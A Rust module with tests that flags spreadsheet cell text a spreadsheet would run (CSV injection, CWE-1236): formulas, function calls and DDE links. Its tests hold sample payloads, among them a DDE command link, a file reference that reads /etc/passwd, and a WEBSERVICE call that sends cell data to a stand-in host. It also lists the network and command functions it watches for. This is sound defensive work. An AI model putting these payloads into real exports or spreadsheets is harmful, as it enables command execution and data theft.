//! Cells that a spreadsheet runs (OWASP, CSV Injection; CWE-1236).
//!
//! A cell is one only where what stands behind its first sign parses as a formula, a call, or a DDE link: a
//! number, a telephone number, a name after `@` or a bullet is none.

/// Why a spreadsheet would run a text, or `None`.
pub(super) fn why(text: &str) -> Option<&'static str> {
    let text = text.trim_start();
    let mut characters = text.chars();
    let sign = match characters.next()? {
        '=' | '＝' => '=',
        '+' | '＋' => '+',
        '-' | '－' => '-',
        '@' | '＠' => '@',
        _ => return None,
    };
    let body =
        characters.as_str().trim_start_matches(['=', '+', '-', '@', '＝', '＋', '－', '＠', ' ']);
    if is_link(body) {
        return Some("a DDE link");
    }
    // Functions have names in the user's own language too.
    let name = body.split(|c: char| !c.is_alphanumeric() && c != '.' && c != '_').next()?;
    let rest = body.get(name.len()..)?;
    let apart = sign == '=' && is_function(name) && rest.trim_start().starts_with('(');
    let called = rest.starts_with(['(', '（']) || apart;
    let begins = name.starts_with(|c: char| c.is_alphabetic() || c == '_');
    if called && begins && (sign == '=' || is_function(name)) {
        return Some("a call");
    }
    let mut parser = Parser { rest: characters.as_str(), ..Parser::default() };
    let parsed = parser.expression(DEEPEST) && parser.rest.trim().is_empty();
    match sign {
        '=' if parsed && !(parser.names > 0 && parser.operators == 0) => Some("a formula"),
        '+' | '-' if parsed && parser.cells > 0 && parser.operators > 0 => Some("a formula"),
        _ => None,
    }
}

/// Whether a text holds `program|topic!item`.
fn is_link(body: &str) -> bool {
    let Some((before, behind)) = body.split_once('|') else { return false };
    let program = before.chars().rev().take_while(char::is_ascii_alphanumeric).count();
    let item = behind.split_once('!').map(|(_, item)| item.trim_start());
    program > 0 && item.is_some_and(|item| item.starts_with(|c: char| c.is_ascii_alphanumeric()))
}

/// Whether a name is that of a function: in capitals, as spreadsheets write it, or one that acts.
fn is_function(name: &str) -> bool {
    let capitals = name.chars().count() > 1 && !name.chars().any(char::is_lowercase);
    capitals || ACTING.iter().any(|acting| acting.eq_ignore_ascii_case(name))
}

#[derive(Default)]
struct Parser<'a> {
    rest: &'a str,
    operators: usize,
    /// References to cells.
    cells: usize,
    names: usize,
}

impl Parser<'_> {
    fn expression(&mut self, depth: usize) -> bool {
        if depth == 0 || !self.operand(depth) {
            return false;
        }
        loop {
            self.rest = self.rest.trim_start();
            let operator = ['+', '-', '*', '/', '^', '&', '<', '>', '=', ':', ',', ';', '!'];
            let Some(rest) = self.rest.strip_prefix(operator) else { return true };
            self.rest = rest;
            self.operators += 1;
            if !self.operand(depth) {
                return false;
            }
        }
    }

    fn operand(&mut self, depth: usize) -> bool {
        self.rest = self.rest.trim_start().trim_start_matches(['+', '-']).trim_start();
        if let Some(rest) = self.rest.strip_prefix('(') {
            self.rest = rest;
            return self.expression(depth - 1) && self.close();
        }
        if let Some(rest) = self.rest.strip_prefix('"') {
            let Some((_, rest)) = rest.split_once('"') else { return false };
            self.rest = rest;
            return true;
        }
        if let Some(rest) = self.rest.strip_prefix('{') {
            self.rest = rest;
            return self.expression(depth - 1) && self.ends('}');
        }
        // A sheet, or a file: `'Sheet 1'!A1`, `'file:///a'#$b.A1`.
        if let Some(rest) = self.rest.strip_prefix('\'') {
            let Some((_, rest)) = rest.split_once('\'') else { return false };
            let Some(cell) = rest.strip_prefix(['!', '#', '.']) else { return false };
            self.rest = cell;
            self.operators += 1;
        }
        let end =
            self.rest.find(|c: char| !c.is_alphanumeric() && !matches!(c, '.' | '$' | '_' | '%'));
        let (word, rest) = self.rest.split_at(end.unwrap_or(self.rest.len()));
        self.rest = rest;
        if word.trim_end_matches('%').parse::<f64>().is_ok_and(f64::is_finite) {
            return true;
        }
        if let Some(rest) = rest.strip_prefix('(') {
            self.rest = rest.trim_start();
            self.cells += 1;
            return self.close() || (self.expression(depth - 1) && self.close());
        }
        if is_cell(word) {
            self.cells += 1;
        } else {
            self.names += 1;
        }
        !word.is_empty()
    }

    fn close(&mut self) -> bool {
        self.ends(')')
    }

    fn ends(&mut self, bracket: char) -> bool {
        let rest = self.rest.trim_start().strip_prefix(bracket);
        rest.map(|rest| self.rest = rest).is_some()
    }
}

/// Whether a word names a cell: `A1`, `$B$12`.
fn is_cell(word: &str) -> bool {
    let word = word.replace('$', "");
    let digits = word.trim_start_matches(|c: char| c.is_ascii_uppercase());
    let letters = word.len() - digits.len();
    (1..=3).contains(&letters) && !digits.is_empty() && digits.bytes().all(|b| b.is_ascii_digit())
}

/// Functions that fetch, call or start something.
const ACTING: [&str; 13] = [
    "call",
    "cmd",
    "dde",
    "exec",
    "hyperlink",
    "image",
    "importdata",
    "importfeed",
    "importhtml",
    "importrange",
    "importxml",
    "register",
    "webservice",
];
/// Brackets in brackets that are looked into.
const DEEPEST: usize = 32;

#[cfg(test)]
mod tests {
    use super::why;

    #[test]
    fn formulas_are_told_from_what_begins_alike() {
        for formula in [
            "=1+1",
            "\t=A1",
            " =SUM(A1:A9)",
            "+A1+B2",
            "@SUM(1)",
            "＝2*3",
            "=x|' /c y'!A0",
            "-1+dde|'x'!A1",
            "=IF(A1>0,\"a\",\"b\")",
            "=importxml(x)",
            "=SUM (A1)",
            "=ГИПЕРССЫЛКА(\"http://a.example\")",
            "='file:///etc/passwd'#$passwd.A1",
            "='Sheet 1'!A1",
            "={1,2}*A1",
            "=_xlfn.WEBSERVICE(\"http://a.example\"&A1)",
        ] {
            assert!(why(formula).is_some(), "{formula}");
        }
        for plain in [
            "-5",
            "+1.5e9",
            "+49 (170) 123",
            "@alice",
            "@alice(home)",
            "- item",
            "+1 for this",
            "=)",
            "==",
            "=",
            "-2+3",
            "= not equal",
            "-A1",
            "=name",
            "a=1+1",
            "--long",
            "+1|2!",
            "'=1+1",
            "",
            "-x - y",
            "= see (above)",
            "='quoted'",
            "={",
            "=P",
            "=^.^=",
        ] {
            assert!(why(plain).is_none(), "{plain}");
        }
    }
}
